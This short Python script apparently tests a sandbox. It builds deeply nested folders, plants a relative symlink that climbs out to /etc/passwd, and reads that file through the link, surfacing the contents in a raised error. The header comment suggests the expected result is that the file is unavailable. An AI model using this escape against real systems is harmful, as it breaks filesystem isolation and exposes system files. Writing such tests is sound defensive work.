# says: not available
# Makes a link that leads out of the folder only from where it lies, and reads through it.
import os

up = "../" * os.getcwd().count("/")
os.makedirs("d/" * 30)
os.chdir("d/" * 30)
os.symlink(f"{up}etc/passwd", f"{'../' * 30}link")
os.chdir("../" * 30)
raise SystemError(open("link").read())
